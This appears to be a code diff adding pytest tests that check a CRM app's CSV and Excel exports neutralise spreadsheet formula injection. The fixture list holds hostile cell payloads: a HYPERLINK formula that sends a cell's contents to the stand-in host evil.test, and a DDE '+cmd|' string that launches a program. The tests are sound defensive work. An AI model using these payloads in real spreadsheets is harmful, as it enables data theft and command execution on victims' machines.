@@ -5,6 +5,7 @@ Image tests need Debian's chromium: they skip without it on a user's machine and
 
 from __future__ import annotations
 
+import csv
 import io
 import os
 import re
@@ -12,11 +13,14 @@ import struct
 import xml.etree.ElementTree as ET
 import zipfile
 from datetime import date
+from pathlib import Path
+from typing import Any
 
 import openpyxl
 import pandas as pd
 import plotly.graph_objects as go
 import pytest
+from openpyxl.utils.escape import unescape
 
 from charts import export
 
@@ -266,3 +270,200 @@ def test_xlsx_handles_empty_frames_missing_values_and_time_zones():
     assert book["Comments"]["A2"].value.hour == 10
     assert book["Comments"]["B2"].value is None
     assert [c.value for c in book["Empty"][1]] == ["x"]
+
+
+# --- spreadsheet safety (formula injection) --------------------------------------------------
+
+#: Text a spreadsheet would run as a formula, and a text that merely starts with a minus.
+HOSTILE_TEXT = [
+    '=HYPERLINK("http://evil.test/?leak="&A1,"Click for details")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "-5 days",
+]
+#: Text that must come out exactly as it went in.
+HARMLESS_TEXT = ["Acme, Inc.", "Zoë Ñandú", "it's fine", "http://example.test/page", "a=b"]
+
+
+@pytest.fixture
+def hostile_frame() -> pd.DataFrame:
+    """Hostile and harmless text in object, string and categorical columns, next to real
+    numbers (a negative one too), a mixed column and a hostile column name."""
+    text = HOSTILE_TEXT + HARMLESS_TEXT[: len(HOSTILE_TEXT) - 1] + [None]
+    rows = len(text)
+    return pd.DataFrame(
+        {
+            "comment": pd.Series(text, dtype=object),
+            "label": pd.Series(text, dtype="string"),
+            "category": pd.Series(text, dtype="category"),
+            "amount": [-5.0, 1.5, -0.25, 0.0, 12.0, -1e6] + [3.0] * (rows - 6),
+            "count": list(range(-rows // 2, rows - rows // 2)),
+            "mixed": pd.Series([-5, "-5", 2.5, "=1+2"] + [None] * (rows - 4), dtype=object),
+            "=SUM(A1:A9)": ["x"] * rows,
+        }
+    )
+
+
+def _expected_text(value: str) -> str:
+    return "'" + value if value in HOSTILE_TEXT else value
+
+
+def _xlsx_text(cell: Any) -> Any:
+    """A cell's value as Excel shows it: xlsxwriter stores a carriage return as OOXML's
+    ``_x000D_`` escape, which openpyxl leaves escaped when reading."""
+    return unescape(cell.value) if isinstance(cell.value, str) else cell.value
+
+
+def test_neutraliser_prefixes_formula_triggers_only_on_text():
+    from crm_data.spreadsheet_safety import FORMULA_TRIGGERS, neutralise_text, neutralise_value
+
+    for value in [*HOSTILE_TEXT, "-", "=", "+1", "-5"]:
+        assert value.startswith(FORMULA_TRIGGERS)
+        assert neutralise_text(value) == "'" + value
+        assert neutralise_text(neutralise_text(value)) == "'" + value  # applying it twice changes nothing
+    for value in [*HARMLESS_TEXT, "", " =1+1", "'=1+1"]:
+        assert neutralise_text(value) == value
+    for value in (-5, -5.5, 0, None, float("nan"), True, pd.Timestamp("2026-01-01"), pd.NA):
+        assert neutralise_value(value) is value
+
+
+def test_csv_neutralises_hostile_text_and_keeps_numbers(hostile_frame):
+    data = export.frame_csv(hostile_frame).decode("utf-8")
+    rows = list(csv.reader(io.StringIO(data, newline="")))
+    header, body = rows[0], rows[1:]
+    assert header == ["comment", "label", "category", "amount", "count", "mixed", "'=SUM(A1:A9)"]
+    assert len(body) == len(hostile_frame)  # the carriage return did not split a row
+    for index, row in enumerate(body):
+        cells = dict(zip(header, row, strict=True))
+        original = hostile_frame["comment"][index]
+        expected = "" if original is None else _expected_text(original)
+        assert cells["comment"] == cells["label"] == cells["category"] == expected
+        assert cells["'=SUM(A1:A9)"] == "x"
+        assert float(cells["amount"]) == hostile_frame["amount"][index]  # numbers: never quoted
+        assert int(cells["count"]) == hostile_frame["count"][index]
+    assert [row[0] for row in body[:6]] == [
+        '\'=HYPERLINK("http://evil.test/?leak="&A1,"Click for details")',
+        "'+cmd|' /C calc'!A0",
+        "'@SUM(1+1)",
+        "'\t=1+1",
+        "'\r=1+1",
+        "'-5 days",
+    ]
+    assert [row[3] for row in body[:2]] == ["-5.0", "1.5"]
+    # a mixed column: the number -5 stays a number, the text "-5" is neutralised
+    assert [row[5] for row in body[:4]] == ["-5", "'-5", "2.5", "'=1+2"]
+    # pandas reads the numbers back as numbers
+    back = pd.read_csv(io.BytesIO(data.encode("utf-8")))
+    assert back["amount"].tolist() == hostile_frame["amount"].tolist()
+    assert back["count"].tolist() == hostile_frame["count"].tolist()
+
+
+def test_csv_quotes_every_line_break_and_keeps_the_rest_as_pandas_writes_it(fcr_frame):
+    frame = pd.DataFrame({"text": ["a\rb", "a\nb", "a\r\nb", 'say "hi"', "x,y", " pad "], "n": range(6)})
+    data = export.frame_csv(frame).decode("utf-8")
+    assert data.splitlines(keepends=True)[0] == "text,n\n"
+    assert '"a\rb",0\n' in data
+    rows = list(csv.reader(io.StringIO(data, newline="")))
+    assert [row[0] for row in rows[1:]] == frame["text"].tolist()
+    # without a carriage return the file is exactly pandas' own CSV
+    assert export.frame_csv(fcr_frame) == fcr_frame.to_csv(
+        index=False, date_format="%Y-%m-%dT%H:%M:%S", lineterminator="\n"
+    ).encode("utf-8")
+
+
+def test_xlsx_stores_hostile_text_as_neutralised_text_and_numbers_as_numbers(hostile_frame):
+    meta = {"Filters": '=HYPERLINK("http://evil.test")', "Definition": "won ÷ (won + lost)"}
+    data = export.frame_xlsx({"Hostile": hostile_frame}, meta)
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
+        for name in sheets:
+            xml = archive.read(name).decode("utf-8")
+            assert "<f>" not in xml and "<f " not in xml, name  # no formula anywhere
+            assert "<hyperlink" not in xml, name  # a URL in a cell stays text
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    sheet = book["Hostile"]
+    header = [cell.value for cell in sheet[1]]
+    assert header == ["comment", "label", "category", "amount", "count", "mixed", "'=SUM(A1:A9)"]
+    for cell in sheet[1]:
+        assert cell.data_type == "s"
+    for index, row in enumerate(sheet.iter_rows(min_row=2)):
+        cells = dict(zip(header, row, strict=True))
+        original = hostile_frame["comment"][index]
+        for column in ("comment", "label", "category"):
+            cell = cells[column]
+            if original is None:
+                assert cell.value is None
+            else:
+                assert cell.data_type == "s", (column, original)
+                assert _xlsx_text(cell) == _expected_text(original)
+        assert cells["amount"].data_type == "n"
+        assert cells["amount"].value == hostile_frame["amount"][index]
+        assert cells["count"].data_type == "n"
+        assert cells["count"].value == hostile_frame["count"][index]
+    assert sheet["A6"].value == "'_x000D_=1+1" and _xlsx_text(sheet["A6"]) == "'\r=1+1"
+    assert sheet["A7"].value == "'-5 days"
+    assert sheet["D2"].value == -5 and sheet["D2"].data_type == "n"
+    assert [sheet.cell(row, 6).value for row in range(2, 6)] == [-5, "'-5", 2.5, "'=1+2"]
+    assert sheet.cell(2, 6).data_type == "n" and sheet.cell(3, 6).data_type == "s"
+    assert "http://example.test/page" in [cell.value for cell in sheet["A"]]
+    assert all(cell.hyperlink is None for row in sheet.iter_rows() for cell in row)
+    about = {row[0].value: row[1] for row in book["About"].iter_rows()}
+    assert about["Filters"].value == '\'=HYPERLINK("http://evil.test")'
+    assert about["Filters"].data_type == "s"
+    assert about["Definition"].value == "won ÷ (won + lost)"
+
+
+def test_data_quality_page_download_csv_is_neutralised(tmp_path, monkeypatch):
+    """End to end: hostile account names in the database -> the Data quality page's
+    "Download CSV" of the accounts without an owner -> neutralised, readable cells."""
+    import streamlit as st
+    from streamlit.runtime.media_file_manager import MediaFileManager
+    from streamlit.testing.v1 import AppTest
+
+    from crm_data import schema
+    from crm_data.engines import make_engine
+    from crm_data.importing import import_paths
+
+    names = [value for value in HOSTILE_TEXT if value.strip()] + ["Acme, Inc."]
+    bundle = tmp_path / "bundle"
+    bundle.mkdir()
+    with open(bundle / "accounts.csv", "w", encoding="utf-8", newline="") as out:
+        writer = csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_ALL)  # quotes the bare \\r too
+        writer.writerow(["account_id", "name", "created_at"])
+        writer.writerows([f"A{index}", name, "2024-01-01T00:00:00Z"] for index, name in enumerate(names))
+    url = f"duckdb:///{tmp_path / 'crm.duckdb'}"
+    engine = make_engine(url)
+    try:
+        schema.create_schema(engine)
+        report = import_paths(engine, [bundle])
+        assert report.ok, report.render()
+    finally:
+        engine.dispose()
+
+    recorded: dict[str, object] = {}
+    original = MediaFileManager.add_deferred
+
+    def record(self, data_callable, mimetype, coordinates, file_name=None, **kwargs):
+        recorded[file_name] = data_callable
+        return original(self, data_callable, mimetype, coordinates, file_name, **kwargs)
+
+    monkeypatch.setattr(MediaFileManager, "add_deferred", record)
+    monkeypatch.setenv("CRM_DATABASE_URL", url)
+    monkeypatch.setenv("CRM_EXPORT_WARMUP", "0")
+    st.cache_data.clear()
+    st.cache_resource.clear()
+    try:
+        page = Path(__file__).resolve().parents[2] / "pages" / "7_Data_quality.py"
+        at = AppTest.from_file(str(page), default_timeout=120).run()
+        assert not at.exception, at.exception
+        build = recorded["accounts-without-owner.csv"]
+        data = build()  # what a click on "Download CSV" sends
+    finally:
+        st.cache_data.clear()
+        st.cache_resource.clear()
+    data = data if isinstance(data, bytes) else data.encode("utf-8")
+    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
+    by_id = {row["account_id"]: row["name"] for row in rows}
+    assert by_id == {f"A{index}": _expected_text(name) for index, name in enumerate(names)}
